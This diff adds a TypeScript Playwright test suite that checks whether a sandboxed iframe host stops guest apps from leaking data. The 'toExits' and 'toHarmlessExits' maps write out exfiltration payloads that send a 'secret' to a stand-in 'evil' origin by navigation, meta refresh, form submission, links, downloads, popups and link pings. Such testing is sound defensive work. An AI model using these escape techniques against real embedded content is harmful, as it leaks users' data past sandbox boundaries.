@@ -1,0 +1,159 @@
+import { FRAME_SANDBOX } from '@casement/sandbox';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
+import { launchBrowser } from '../support/browser.js';
+import { eventually } from '../support/eventually.js';
+import {
+  mountApp,
+  mountUndefended,
+  openHost,
+  startWorld,
+  toGuest,
+  waitFor,
+  type Mounted,
+  type World,
+} from './support.js';
+
+let world: World;
+let browser: Browser;
+let page: Page;
+
+beforeAll(async () => {
+  [world, browser] = await Promise.all([startWorld(), launchBrowser()]);
+});
+beforeEach(async () => {
+  world.forget();
+  page = await openHost(browser, world.hostOrigin);
+});
+afterEach(() => page.close());
+afterAll(async () => {
+  await browser?.close();
+  await world?.close();
+});
+
+const answersPings = `addEventListener('message', ({ data }) => data.method === 'ping' && send({ id: data.id, result: {} }));`;
+
+/** Each sends the word "secret" to the listener by leaving its own page. */
+const toExits = ({ evil }: World): Record<string, string> => ({
+  'location =': `location = '${evil}/secret';`,
+  'location.replace': `location.replace('${evil}/secret');`,
+  'meta refresh': `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${evil}/secret">';`,
+  'form POST': `document.body.innerHTML = '<form method="post" action="${evil}/secret"><input name="a"></form>'; document.forms[0].submit();`,
+  'form GET': `document.body.innerHTML = '<form action="${evil}/secret"><input name="a"></form>'; document.forms[0].submit();`,
+  'a link': `document.body.innerHTML = '<a href="${evil}/secret">x</a>'; document.links[0].click();`,
+  download: `document.body.innerHTML = '<a download href="${evil}/secret">x</a>'; document.links[0].click();`,
+});
+
+/** Ways that are closed to a sandboxed frame anyway; here they must leave the app alive. */
+const toHarmlessExits = ({ evil }: World): Record<string, string> => ({
+  'a link to a new tab': `document.body.innerHTML = '<a target="_blank" href="${evil}/secret">x</a>'; document.links[0].click();`,
+  'a link to the top': `document.body.innerHTML = '<a target="_top" href="${evil}/secret">x</a>'; document.links[0].click();`,
+  'window.open': `say('opened', String(window.open('${evil}/secret')));`,
+  'top.location': `try { top.location = '${evil}/secret'; } catch {}`,
+  'a link with ping': `document.body.innerHTML = '<a href="#x" ping="${evil}/secret">x</a>'; document.links[0].click();`,
+  'a part of the page': `document.body.innerHTML = '<a href="#part">x</a>'; document.links[0].click();`,
+});
+
+const lastLoad = async (app: Mounted): Promise<number> =>
+  Number((await app.sandboxMessages('frame-loaded')).at(-1)?.['sinceLoaderReady'] ?? -1);
+
+const hasAnswered = async (app: Mounted, id: string): Promise<boolean> =>
+  (await app.messages()).some((message) => message.id === id);
+
+const expectAnswer = async (app: Mounted, id: string): Promise<void> => {
+  await app.post({ jsonrpc: '2.0', id, method: 'ping' });
+  await eventually(() => hasAnswered(app, id)).toBe(true);
+};
+
+const expectSilence = async (app: Mounted, id: string): Promise<void> => {
+  await app.post({ jsonrpc: '2.0', id, method: 'ping' });
+  await page.waitForTimeout(700);
+  expect(await hasAnswered(app, id), `${id}: the app still answers`).toBe(false);
+};
+
+test('control: the sandbox attribute alone lets a guest carry its words away', async () => {
+  for (const [name, script] of Object.entries(toExits(world))) {
+    world.forget();
+    const url = world.servePlain('/leaves', toGuest(`setTimeout(() => { ${script} }, 50);`));
+    await mountUndefended(page, url, FRAME_SANDBOX);
+    await eventually(() => world.hits.some((hit) => hit.includes('secret')), 5000).toBe(true);
+    expect(world.hits.join(), name).toContain('secret');
+  }
+});
+
+test('an app that stays loads twice at most since its loader spoke, and answers', async () => {
+  const app = await mountApp(page, world, toGuest(answersPings));
+  await waitFor(app, 'ran');
+  await eventually(() => lastLoad(app)).toBeGreaterThan(0);
+  await expectAnswer(app, 'still-there');
+  expect(await lastLoad(app)).toBeLessThanOrEqual(2);
+  expect(await app.sandboxMessages('loader-ready')).toHaveLength(1);
+});
+
+test('no way of leaving carries anything out, and one that blanks the page shows as one more load', async () => {
+  const exits = Object.entries(toExits(world)).map(async ([name, script]) => {
+    const html = toGuest(`${answersPings} setTimeout(() => { ${script} say('left', true); }, 500);`);
+    const app = await mountApp(page, world, html, { domain: name.replaceAll(' ', '-') });
+    await waitFor(app, 'ran');
+    await eventually(() => lastLoad(app)).toBeGreaterThan(0);
+    const before = await lastLoad(app);
+    await waitFor(app, 'left');
+    await eventually(() => lastLoad(app)).toBeGreaterThan(Math.max(before, 1));
+    await expectSilence(app, name);
+  });
+  await Promise.all(exits);
+  expect(world.hits).toEqual([]);
+});
+
+test('leaving while the page is still being parsed carries nothing out and leaves no answering app', async () => {
+  const connections = world.connections();
+  const app = await mountApp(page, world, toGuest(`${answersPings} location = '${world.evil}/secret';`));
+  await eventually(() => lastLoad(app)).toBeGreaterThan(1);
+  await expectSilence(app, 'gone');
+  expect(world.hits).toEqual([]);
+  expect(world.connections()).toBe(connections);
+});
+
+test('links, popups, downloads and the tab itself stay where they are, and the app lives', async () => {
+  const address = page.url();
+  const exits = Object.entries(toHarmlessExits(world)).map(async ([name, script]) => {
+    const html = toGuest(`${answersPings} setTimeout(() => { ${script} say('left', true); }, 50);`);
+    const app = await mountApp(page, world, html, { domain: name.replaceAll(' ', '-') });
+    await waitFor(app, 'left');
+    await expectAnswer(app, name);
+  });
+  await Promise.all(exits);
+  expect(world.hits).toEqual([]);
+  expect(page.url()).toBe(address);
+  expect(page.context().pages()).toHaveLength(1);
+});
+
+test('a guest cannot move to a looser address of its own making', async () => {
+  const fetches = `fetch('${world.evil}/loose').then(() => say('loose', true), () => say('strict', true));`;
+  const loose = await mountApp(page, world, toGuest(fetches), { csp: { connectDomains: [world.evil] } });
+  // Control: at its own address the looser policy is real.
+  await waitFor(loose, 'loose');
+  const url = (await loose.guest()).url();
+  world.forget();
+  const app = await mountApp(
+    page,
+    world,
+    toGuest(`setTimeout(() => { location = '${url}'; }, 300); ${fetches}`),
+  );
+  await waitFor(app, 'strict');
+  await eventually(() => lastLoad(app)).toBeGreaterThan(2);
+  expect(await app.sandboxMessages('loader-ready')).toHaveLength(1);
+  expect(await app.said('loose')).toEqual([]);
+  expect(world.hits).toEqual([]);
+});
+
+test('a guest that reloads gets its HTML again, with its storage, as a new epoch', async () => {
+  const counts = `const count = Number(localStorage.count ?? 0) + 1; localStorage.count = count; say('count', count);
+    if (count < 3) setTimeout(() => location.reload(), 100);`;
+  const app = await mountApp(page, world, toGuest(answersPings + counts), { domain: 'reloads' });
+  await eventually(() => app.said('count')).toEqual([1, 2, 3]);
+  await eventually(() => app.sandboxMessages('loader-ready')).toHaveLength(3);
+  await eventually(() => lastLoad(app)).toBeGreaterThan(0);
+  expect(await lastLoad(app)).toBeLessThanOrEqual(2);
+  await expectAnswer(app, 'after-reload');
+});
